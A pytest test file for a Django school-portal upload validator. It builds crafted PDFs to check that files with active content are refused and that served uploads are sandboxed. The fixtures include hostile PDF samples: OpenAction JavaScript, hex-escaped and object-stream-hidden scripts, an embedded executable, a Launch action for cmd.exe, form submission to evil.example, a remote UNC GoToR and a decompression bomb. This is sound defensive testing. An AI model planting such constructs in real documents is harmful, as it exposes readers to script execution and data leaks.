"""Uploaded PDFs (the scanned copies of responsibility agreements) carry no active
content: scripts, embedded files, launch and submit actions, rich media and XFA forms are
refused, also when their names are written with #xx escapes or hidden in compressed
object streams; what cannot be checked is refused too. And a served upload never runs in
the portal's origin."""

import io
import re
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from PIL import Image

from logistics.choices import Role
from safety.choices import AgreementKind
from safety.models import SafetyAgreement
from safety.uploads import pdf_clean, scan_clean
from tests import factories

CJK = re.compile(r"[\u4e00-\u9fff]")


def stream(entries, data):
    return b"<< " + entries + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def object_stream(objects, compress=True, filters=b"/Filter /FlateDecode"):
    """An object stream holding ``objects`` ({number: body})."""
    header, bodies = [], b""
    for number, body in objects.items():
        header.append(b"%d %d" % (number, len(bodies)))
        bodies += body + b"\n"
    head = b" ".join(header) + b"\n"
    data = head + bodies
    if compress:
        data = zlib.compress(data)
    entries = b"/Type /ObjStm /N %d /First %d " % (len(objects), len(head)) + filters
    return stream(entries, data)


def pdf(catalog=b"", page=b"", extra=None, trailer=b""):
    """A small, complete PDF: catalog (1), pages (2), a page (3) with a content stream (4)
    and a scanned picture (5); ``extra`` adds objects from 6 on ({number: body})."""
    picture = io.BytesIO()
    Image.new("L", (40, 20), 200).save(picture, "JPEG")
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /XObject << /Im0 5 0 R >> >> " + page + b">>",
        4: stream(b"", b"q 400 0 0 200 100 500 cm /Im0 Do Q"),
        5: stream(
            b"/Type /XObject /Subtype /Image /Width 40 /Height 20 /ColorSpace /DeviceGray "
            b"/BitsPerComponent 8 /Filter /DCTDecode",
            picture.getvalue(),
        ),
        **(extra or {}),
    }
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    xref = len(out)
    size = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets.get(number, 0)
    out += b"trailer\n<< /Size %d /Root 1 0 R " % size + trailer + b">>\n"
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return out


def upload(data, name="责任状.pdf"):
    return SimpleUploadedFile(name, data, content_type="application/pdf")


def refused(data):
    with pytest.raises(ValidationError) as info:
        pdf_clean(upload(data))
    return info.value.code


JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"

# name, the PDF, the refusal's code
ACTIVE = [
    ("open-action-javascript", pdf(catalog=b"/OpenAction " + JS), "pdf_script"),
    ("page-open-javascript", pdf(page=b"/AA << /O " + JS + b" >>"), "pdf_script"),
    (
        "document-javascript-name-tree",
        pdf(catalog=b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>", extra={6: JS}),
        "pdf_script",
    ),
    (
        "hex-escaped-names",
        pdf(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
        "pdf_script",
    ),
    ("fully-escaped-name", pdf(catalog=b"/OpenAction << /#4A#53 (x) >>"), "pdf_script"),
    (
        "script-in-a-stream",
        pdf(
            catalog=b"/OpenAction << /S /JavaScript /JS 6 0 R >>",
            extra={6: stream(b"", b"app.alert(1)")},
        ),
        "pdf_script",
    ),
    (
        "javascript-in-a-compressed-object-stream",
        pdf(catalog=b"/OpenAction 7 0 R", extra={6: object_stream({7: JS})}),
        "pdf_script",
    ),
    (
        "escaped-javascript-in-a-compressed-object-stream",
        pdf(
            catalog=b"/OpenAction 7 0 R",
            extra={
                6: object_stream(
                    {7: b"<< /S /Java#53cript /J#53 (x) >>"}, filters=b"/Filter [/FlateDecode]"
                )
            },
        ),
        "pdf_script",
    ),
    (
        "object-stream-with-an-escaped-type",
        pdf(
            catalog=b"/OpenAction 7 0 R",
            extra={6: object_stream({7: JS}).replace(b"/ObjStm", b"/Obj#53tm")},
        ),
        "pdf_script",
    ),
    (
        "embedded-files",
        pdf(
            catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>",
            extra={
                6: b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
                7: stream(b"/Type /EmbeddedFile", b"MZ..."),
            },
        ),
        "pdf_attachment",
    ),
    (
        "file-attachment-annotation",
        pdf(
            page=b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 6 0 R >>]",
            extra={6: b"<< /Type /Filespec /F (a.exe) >>"},
        ),
        "pdf_attachment",
    ),
    ("launch", pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "pdf_action"),
    (
        "submit-form",
        pdf(page=b"/AA << /C << /S /SubmitForm /F (http://evil.example/) >> >>"),
        "pdf_action",
    ),
    ("import-data", pdf(catalog=b"/OpenAction << /S /ImportData /F (x.fdf) >>"), "pdf_action"),
    (
        "remote-go-to",
        pdf(catalog=b"/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>"),
        "pdf_action",
    ),
    (
        "rich-media",
        pdf(page=b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]"),
        "pdf_media",
    ),
    (
        "xfa-form",
        pdf(
            catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >>", extra={6: stream(b"", b"<xdp:xdp/>")}
        ),
        "pdf_media",
    ),
    (
        "script-added-by-an-incremental-update",
        pdf() + b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction " + JS + b" >>\nendobj\n"
        b"trailer\n<< /Size 6 /Root 1 0 R >>\n%%EOF\n",
        "pdf_script",
    ),
]

UNCHECKABLE = [
    ("encrypted", pdf(trailer=b"/Encrypt << /Filter /Standard /V 2 /R 3 >> ")),
    (
        "object-stream-in-another-compression",
        pdf(extra={6: object_stream({7: JS}, compress=False, filters=b"/Filter /ASCIIHexDecode")}),
    ),
    (
        "object-stream-with-a-predictor",
        pdf(
            extra={
                6: object_stream(
                    {7: JS},
                    filters=b"/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>",
                )
            }
        ),
    ),
    (
        "object-stream-that-is-not-valid-zlib",
        pdf(extra={6: stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", b"\x00" * 64)}),
    ),
]


@pytest.mark.parametrize(("name", "data", "code"), ACTIVE, ids=[a[0] for a in ACTIVE])
def test_active_content_is_refused(name, data, code):
    assert refused(data) == code


@pytest.mark.parametrize(("name", "data"), UNCHECKABLE, ids=[u[0] for u in UNCHECKABLE])
def test_what_cannot_be_checked_is_refused(name, data):
    assert refused(data) == "pdf_unchecked"


def test_a_compressed_object_stream_is_inspected_within_a_bound(settings):
    # 64 MB of spaces and then the script: inflating all of it is not an option.
    bomb = zlib.compress(b"7 0 " + b" " * (64 * 1024 * 1024) + JS, 9)
    data = pdf(extra={6: stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", bomb)})
    assert len(data) < 200_000
    assert refused(data) == "pdf_unchecked"


def test_plain_pdfs_are_accepted():
    plain = [
        pdf(),
        # Word processors open on the first page: a destination, not a script.
        pdf(catalog=b"/OpenAction [3 0 R /XYZ null null 0] /PageMode /UseNone"),
        # Links to a web page are fine.
        pdf(
            page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
            b"/A << /S /URI /URI (https://www.example.cn/) >> >>]"
        ),
        # A compressed object stream with nothing active in it.
        pdf(
            catalog=b"/Outlines 7 0 R",
            extra={6: object_stream({7: b"<< /Type /Outlines /Count 0 >>"})},
        ),
        # The picture's bytes happen to spell /JavaScript: data, not a name.
        pdf(
            extra={
                6: stream(
                    b"/Type /XObject /Subtype /Image /Width 2 /Height 2 "
                    b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /DCTDecode",
                    b"\xff\xd8/JavaScript /JS /Launch \xff\xd9",
                )
            }
        ),
        b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
    ]
    for data in plain:
        clean = pdf_clean(upload(data))
        assert clean.content == data
        assert scan_clean(upload(data)).content == data


def test_every_refusal_is_explained_in_chinese():
    codes = {code for _n, _d, code in ACTIVE} | {"pdf_unchecked"}
    messages = {}
    for _name, data, code in [*ACTIVE, *[(n, d, "pdf_unchecked") for n, d in UNCHECKABLE]]:
        with pytest.raises(ValidationError) as info, translation.override("zh-hans"):
            pdf_clean(upload(data))
        with translation.override("zh-hans"):
            messages[code] = info.value.messages[0]
    assert set(messages) == codes
    for text in messages.values():
        assert CJK.search(text) and "PDF" in text


@pytest.mark.django_db
def test_the_agreement_page_refuses_a_pdf_with_a_script(ga_client, school, make_user, settings):
    signer = make_user(Role.STAFF, school)
    response = ga_client.post(
        reverse("safety_agreement_create"),
        {
            "signer": signer.pk,
            "kind": AgreementKind.STAFF,
            "title": "",
            "year": "2026",
            "signed_on": "2026-09-01",
            "scan": upload(pdf(catalog=b"/OpenAction " + JS)),
        },
    )
    assert response.status_code == 400
    assert "脚本" in response.content.decode()
    assert not SafetyAgreement.objects.exists()


# --- Serving uploads ------------------------------------------------------------------------


@pytest.mark.django_db
def test_a_served_pdf_is_a_sandboxed_download(ga_client, school, make_user):
    signer = make_user(Role.STAFF, school)
    ga_client.post(
        reverse("safety_agreement_create"),
        {
            "signer": signer.pk,
            "kind": AgreementKind.STAFF,
            "year": "2026",
            "signed_on": "2026-09-01",
            "scan": upload(pdf()),
        },
    )
    agreement = SafetyAgreement.objects.get()
    response = ga_client.get(agreement.file_url)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"
    policy = response["Content-Security-Policy"]
    assert "sandbox" in policy and "default-src 'none'" in policy
    assert "script-src" not in policy or "'none'" in policy
    response.close()


@pytest.mark.django_db
def test_a_served_picture_is_inline_and_sandboxed(ga_client, school, make_user):
    signer = make_user(Role.STAFF, school)
    ga_client.post(
        reverse("safety_agreement_create"),
        {
            "signer": signer.pk,
            "kind": AgreementKind.STAFF,
            "year": "2026",
            "signed_on": "2026-09-01",
            "scan": factories.photo_upload(name="scan.png"),
        },
    )
    agreement = SafetyAgreement.objects.get()
    response = ga_client.get(agreement.file_url)
    assert response["Content-Type"] == "image/jpeg"
    assert response["Content-Disposition"] == "inline"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    response.close()
